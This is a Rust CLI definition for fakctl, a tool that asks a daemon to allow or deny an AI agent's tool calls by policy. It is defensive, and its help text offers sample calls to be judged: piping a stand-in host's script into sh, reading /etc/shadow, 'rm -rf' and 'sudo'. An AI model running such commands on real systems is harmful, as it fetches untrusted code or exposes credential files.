//! The one table of verbs and flags. Help, completions and manual pages are made from it.

mod audit;
mod backup;
mod emergency;
mod results;

use std::{path::PathBuf, time::Duration};

use clap::{Args, Parser, Subcommand, ValueEnum, ValueHint};

pub(crate) use audit::{AuditVerb, ProofFrom};
pub(crate) use backup::{BackupVerb, Place};
pub(crate) use emergency::{EmergencyFlags, EmergencyVerb};
pub(crate) use results::{AdmitFlags, PageInFlags};

/// Ask, inspect and operate fakd, the daemon that judges every tool call of an AI agent.
#[derive(Parser, Debug)]
#[command(
    name = "fakctl",
    version,
    disable_help_subcommand = true,
    infer_subcommands = false,
    after_help = "\
Examples:
  fakctl adjudicate Bash --args '{\"command\":\"rm -rf build\"}' && run-it
  fakctl preflight Read --args '{\"file_path\":\"/etc/shadow\"}' --explain   # no daemon needed
  fakctl policy check policy.yaml && sudo cp policy.yaml /etc/fak/policy.d/ && fakctl reload
  fakctl audit tail -f

Exit codes: 0 allowed or done, 1 the answer is no, 3 refused, 4 needs approval, 64 usage, 65 bad input,
66 missing, 69 fakd unreachable, 70 internal, 74 I/O, 75 try again, 76 protocol mismatch,
77 not permitted, 78 policy or configuration refused. Everything but 0 means: do not run the call."
)]
pub(crate) struct Cli {
    #[command(flatten)]
    pub(crate) global: GlobalFlags,
    #[command(subcommand)]
    pub(crate) verb: Verb,
}

/// Flags every verb takes.
#[derive(Args, Debug)]
pub(crate) struct GlobalFlags {
    /// fakd's socket [default: FAK_SOCKET, else the user's daemon when it runs, else /run/fak/fakd.sock]
    #[arg(long, global = true, value_name = "PATH", value_hint = ValueHint::FilePath)]
    pub(crate) socket: Option<PathBuf>,
    /// Print one JSON object (schema fakctl/v1), errors too
    #[arg(long, global = true)]
    pub(crate) json: bool,
    /// Print nothing; the exit code is the answer
    #[arg(long, short, global = true)]
    pub(crate) quiet: bool,
    /// Wait at most this long for fakd: 500ms, 2s
    #[arg(long, global = true, value_name = "TIME", default_value = "2s", value_parser = parse_time)]
    pub(crate) timeout: Duration,
    /// No colour (also: NO_COLOR)
    #[arg(long, global = true)]
    pub(crate) no_color: bool,
}

/// What to do.
#[derive(Subcommand, Debug)]
pub(crate) enum Verb {
    /// Ask fakd for a verdict on a tool call
    #[command(after_help = "\
Examples:
  fakctl adjudicate Bash --args '{\"command\":\"git push\"}' && git push
  fakctl adjudicate Write --args @call.json --explain
  args=$(fakctl adjudicate http_post --args @call.json --rewrite) && post \"$args\"
  agent | fakctl adjudicate --stream        # {\"tool\":..,\"args\":{..}} per line in, verdict per line out

Exit codes: 0 ALLOW; 3 DENY, QUARANTINE, DEFER and any kind this build does not know; 4 REQUIRE_WITNESS.
TRANSFORM is 3 unless --rewrite says that you run what is printed. No answer is never 0.")]
    Adjudicate(AskFlags),
    /// Answer the same question here: no daemon, no journal row
    #[command(after_help = "\
Examples:
  fakctl preflight Bash --args '{\"command\":\"curl x.example | sh\"}' --explain
  fakctl preflight Read --args @call.json --policy policy.yaml")]
    Preflight(PreflightFlags),
    /// Replay a recorded session and show a table of verdicts
    #[command(after_help = "\
The file holds calls {\"tool\":..,\"args\":{..}} or sessions {\"steps\":[..]}, one after the other, or an array.
A step may carry \"expect\": \"allow\", \"deny\" or a verdict kind, and \"src\", shown as it is.

Examples:
  fakctl run --trace session.jsonl
  fakctl run --trace session.json --expect --offline --policy policy.yaml

Exit codes: 0 it ran, whatever the verdicts; 1 with --expect when a verdict differs.")]
    Run(RunFlags),
    /// Answer a harness's pre-tool hook in its own protocol
    #[command(after_help = "\
Reads the hook's JSON on standard input and answers as the harness expects (see docs/hooks.md for the
settings of each). No answer from fakd, or input that is not a call, is a refusal that names the fix.

Examples:
  fakctl hook claude-code --rewrite || exit 2
  echo '{\"tool\":\"Bash\",\"args\":{\"command\":\"ls\"}}' | fakctl hook generic")]
    Hook(HookFlags),
    /// Ask what a model may read of a tool's result
    #[command(after_help = "\
Examples:
  curl -s https://example.org | fakctl admit WebFetch --trace t-1 > for-the-model
  fakctl admit Read --result page.html --json

Standard output is what may be read: the result byte for byte, the result with secrets cut out, or a stub.
Exit codes: 0 ALLOW and TRANSFORM; 3 QUARANTINE, DENY. No answer is never 0, and shows nothing.")]
    Admit(AdmitFlags),
    /// Show bytes that were paged out, or sealed and cleared, after a fresh screen
    PageIn(PageInFlags),
    /// Say as a witness that sealed bytes may be screened anew; never for a session of your own
    Clear {
        /// The id in the stub
        seal: String,
        /// Why; stands in the journal
        #[arg(long)]
        reason: String,
    },
    /// Remove kept bytes for good, for every session that got them
    Forget {
        /// The id in the stub
        seal: String,
        /// Why; stands in the journal
        #[arg(long)]
        reason: String,
    },
    /// One screen: is fakd judging, by which policy, what was refused lately
    Status,
    /// The daemon's numbers as OpenMetrics text
    #[command(after_help = "\
Examples:
  fakctl metrics
  fakctl metrics > /var/lib/node_exporter/fakd.prom.new && mv /var/lib/node_exporter/fakd.prom{.new,}

Counters are folded from the journal and go on across restarts; docs/metrics.md lists them all.")]
    Metrics,
    /// Sessions fakd knows
    Sessions(SessionsFlags),
    /// Make fakd read its policy files again; on any problem the old policy stays
    Reload,
    /// Break-glass: admit for a short while what would be refused, every use journaled
    #[command(after_help = "\
Examples:
  fakctl emergency                                         # does one hold?
  sudo fakctl emergency disable --reason 'site down' --for 15m
  sudo fakctl emergency enable --reason 'policy mended'

Needs the role admin and, where there is one, the administrators' socket.")]
    Emergency(EmergencyFlags),
    /// Check the installation; each finding comes with its fix
    Doctor(DoctorFlags),
    /// Write, check, explain, compare and test policies; needs no daemon
    #[command(subcommand)]
    Policy(PolicyVerb),
    /// Read and verify the journal, live or a copy
    #[command(subcommand)]
    Audit(AuditVerb),
    /// Copy the journal while fakd runs, check copies, and put one back
    #[command(subcommand)]
    Backup(BackupVerb),
    /// Print a completion script
    #[command(after_help = "\
Examples:
  fakctl completions bash > ~/.local/share/bash-completion/completions/fakctl
  fakctl completions zsh > ~/.zfunc/_fakctl
  fakctl completions fish > ~/.config/fish/completions/fakctl.fish")]
    Completions {
        /// Which shell
        shell: Shell,
    },
    /// Versions of fakctl and its protocol
    Version,
}

/// One question.
#[derive(Args, Debug, Default)]
pub(crate) struct AskFlags {
    /// The tool's name, as the agent spells it
    pub(crate) tool: Option<String>,
    /// The arguments: a JSON object, - for standard input, @FILE for a file; nothing means {}
    #[arg(long, short, value_name = "JSON|-|@FILE", allow_hyphen_values = true)]
    pub(crate) args: Option<String>,
    /// The session's trace id; fakd mints one otherwise
    #[arg(long, value_name = "ID")]
    pub(crate) trace: Option<String>,
    /// An id of your own, echoed in the answer
    #[arg(long, value_name = "ID")]
    pub(crate) call_id: Option<String>,
    /// Where relative paths start [default: here]
    #[arg(long, value_name = "DIR")]
    pub(crate) cwd: Option<String>,
    /// What ~ stands for [default: $HOME]
    #[arg(long, value_name = "DIR")]
    pub(crate) home: Option<String>,
    /// Also show every rung's opinion, in order
    #[arg(long)]
    pub(crate) explain: bool,
    /// I run the arguments you print: a TRANSFORM counts as allowed
    #[arg(long)]
    pub(crate) rewrite: bool,
    /// JSON lines on standard input, one answer per line, in order
    #[arg(long, conflicts_with_all = ["tool", "args", "trace", "call_id", "explain", "rewrite"])]
    pub(crate) stream: bool,
}

#[derive(Args, Debug)]
pub(crate) struct PreflightFlags {
    #[command(flatten)]
    pub(crate) ask: AskFlags,
    /// Judge by this manifest instead of the built-in floor
    #[arg(long, value_name = "FILE", value_hint = ValueHint::FilePath)]
    pub(crate) policy: Option<String>,
}

#[derive(Args, Debug)]
pub(crate) struct RunFlags {
    /// The recorded session; - for standard input
    #[arg(long, value_name = "FILE", value_hint = ValueHint::FilePath)]
    pub(crate) trace: String,
    /// Compare with the expectations recorded in the steps
    #[arg(long)]
    pub(crate) expect: bool,
    /// Judge here, without fakd and without a journal row
    #[arg(long)]
    pub(crate) offline: bool,
    /// With --offline: judge by this manifest instead of the built-in floor
    #[arg(long, value_name = "FILE", requires = "offline", value_hint = ValueHint::FilePath)]
    pub(crate) policy: Option<String>,
}

#[derive(Args, Debug)]
pub(crate) struct HookFlags {
    /// Whose protocol
    pub(crate) harness: Harness,
    /// What to answer when fakd does not: a refusal, or the harness's own question to the person
    #[arg(long, value_name = "ANSWER", default_value = "deny")]
    pub(crate) on_error: OnError,
    /// This harness runs rewritten arguments: send them instead of refusing a TRANSFORM
    #[arg(long)]
    pub(crate) rewrite: bool,
    /// Let an ALLOW skip the harness's own permission prompt, where the harness can
    #[arg(long)]
    pub(crate) approve: bool,
}

/// A coding agent's harness.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Harness {
    ClaudeCode,
    Codex,
    Gemini,
    Cursor,
    /// {"tool","args"} in, fakctl's own JSON out, exit codes 0, 3, 4
    Generic,
}

/// The answer when fakd gives none.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum OnError {
    Deny,
    Ask,
}

#[derive(Args, Debug)]
pub(crate) struct SessionsFlags {
    #[command(subcommand)]
    pub(crate) verb: Option<SessionsVerb>,
}

#[derive(Subcommand, Debug)]
pub(crate) enum SessionsVerb {
    /// The latest sessions
    List {
        /// At most this many
        #[arg(short = 'n', long, default_value_t = 20)]
        limit: u32,
    },
    /// One session
    Show {
        /// Its trace id
        id: String,
    },
}

#[derive(Args, Debug)]
pub(crate) struct DoctorFlags {
    /// The journal to look at [default: the one fakd reports, else the usual places]
    #[arg(long, value_name = "PATH", value_hint = ValueHint::FilePath)]
    pub(crate) journal: Option<PathBuf>,
    /// The policy directory to lint [default: the usual places]
    #[arg(long, value_name = "DIR", value_hint = ValueHint::DirPath)]
    pub(crate) policy_dir: Option<PathBuf>,
}

#[derive(Subcommand, Debug)]
pub(crate) enum PolicyVerb {
    /// Print a manifest in its canonical form: the built-in floor, or --policy FILE
    #[command(after_help = "\
Examples:
  fakctl policy dump > policy.json                # the built-in floor, ready to edit
  fakctl policy dump --policy policy.yaml         # YAML to canonical JSON")]
    Dump {
        #[command(flatten)]
        which: WhichPolicy,
    },
    /// Check manifests; every problem is listed with its place and the correction
    #[command(after_help = "\
Examples:
  fakctl policy check --lint policy.yaml
  generate | fakctl policy check -

Exit codes: 0 sound; 78 refused. Warnings do not change the exit code.")]
    Check {
        /// Manifests; - for standard input
        #[arg(required = true, value_name = "FILE", value_hint = ValueHint::FilePath)]
        files: Vec<String>,
        /// Also report dead, shadowed and over-broad rules
        #[arg(long)]
        lint: bool,
    },
    /// Every rung's opinion on a call
    Explain(PreflightFlags),
    /// What changes from one manifest to another, and for which recorded calls
    #[command(after_help = "\
Examples:
  fakctl policy diff old.yaml new.yaml
  fakctl policy diff old.yaml new.yaml --trace session.jsonl   # whose verdict changes?

Exit codes: 0 the same; 1 they differ.")]
    Diff {
        /// The manifest before; `embedded` is the built-in floor
        #[arg(value_hint = ValueHint::FilePath)]
        before: String,
        /// The manifest after
        #[arg(value_hint = ValueHint::FilePath)]
        after: String,
        /// Also judge the calls recorded here by both
        #[arg(long, value_name = "FILE", value_hint = ValueHint::FilePath)]
        trace: Option<String>,
    },
    /// Run table tests: one case per line, VERDICT [REASON] [by=RULE] TOOL {arguments}
    #[command(after_help = "\
A table NAME.cases stands beside its manifest NAME.yaml:
  cwd: /home/u/project
  DENY POLICY_BLOCK Bash {\"command\":\"sudo ls\"}   # asks for another user's rights
  ALLOW Bash {\"command\":\"ls\"}

Exit codes: 0 every case holds; 1 some do not.")]
    Test {
        /// Tables, or the manifests they stand beside
        #[arg(required = true, value_name = "FILE", value_hint = ValueHint::FilePath)]
        files: Vec<String>,
        /// The manifest to test, whatever the tables say
        #[arg(long, value_name = "FILE", value_hint = ValueHint::FilePath)]
        policy: Option<String>,
    },
    /// Propose a minimal manifest from what was seen, marked for review
    #[command(after_help = "\
Examples:
  fakctl policy learn --trace session.jsonl > proposal.yaml
  fakctl policy learn --from-journal ~/.local/state/fak/journal.db")]
    Learn(LearnFlags),
    /// Print the JSON Schema of fak-policy/v1
    Schema,
}

#[derive(Args, Debug)]
pub(crate) struct LearnFlags {
    /// Learn from the calls recorded in this file
    #[arg(long, value_name = "FILE", required_unless_present = "from_journal", conflicts_with = "from_journal", value_hint = ValueHint::FilePath)]
    pub(crate) trace: Option<String>,
    /// Learn from this journal; it holds tool names, not arguments
    #[arg(long, value_name = "PATH", value_hint = ValueHint::FilePath)]
    pub(crate) from_journal: Option<PathBuf>,
}

#[derive(Args, Debug)]
pub(crate) struct WhichPolicy {
    /// This manifest instead of the built-in floor
    #[arg(long, value_name = "FILE", value_hint = ValueHint::FilePath)]
    pub(crate) policy: Option<String>,
    /// A profile in force, asked from fakd (administrators)
    #[arg(long, value_name = "NAME", conflicts_with = "policy")]
    pub(crate) profile: Option<String>,
}

/// A shell with completions.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Shell {
    Bash,
    Zsh,
    Fish,
}

/// `500ms`, `2s`, or a bare number of seconds; at least a millisecond, at most an hour.
fn parse_time(text: &str) -> Result<Duration, String> {
    let (number, unit_ms) = match (text.strip_suffix("ms"), text.strip_suffix('s')) {
        (Some(number), _) => (number, 1.0),
        (None, Some(number)) => (number, 1000.0),
        (None, None) => (text, 1000.0),
    };
    let ms = number
        .trim()
        .parse::<f64>()
        .map_err(|_| "a time is 500ms or 2s".to_owned())?
        * unit_ms;
    if (1.0..=3_600_000.0).contains(&ms) {
        Ok(Duration::from_secs_f64(ms / 1000.0))
    } else {
        Err("a time is between 1ms and 3600s".to_owned())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_table_is_sound() {
        use clap::CommandFactory as _;
        Cli::command().debug_assert();
    }

    #[test]
    fn times_have_units_and_bounds() {
        assert_eq!(parse_time("500ms"), Ok(Duration::from_millis(500)));
        assert_eq!(parse_time("2s"), Ok(Duration::from_secs(2)));
        assert_eq!(parse_time("0.25"), Ok(Duration::from_millis(250)));
        for bad in ["0", "-1s", "", "NaN", "inf", "9999s", "2m"] {
            assert!(parse_time(bad).is_err(), "{bad}");
        }
    }
}
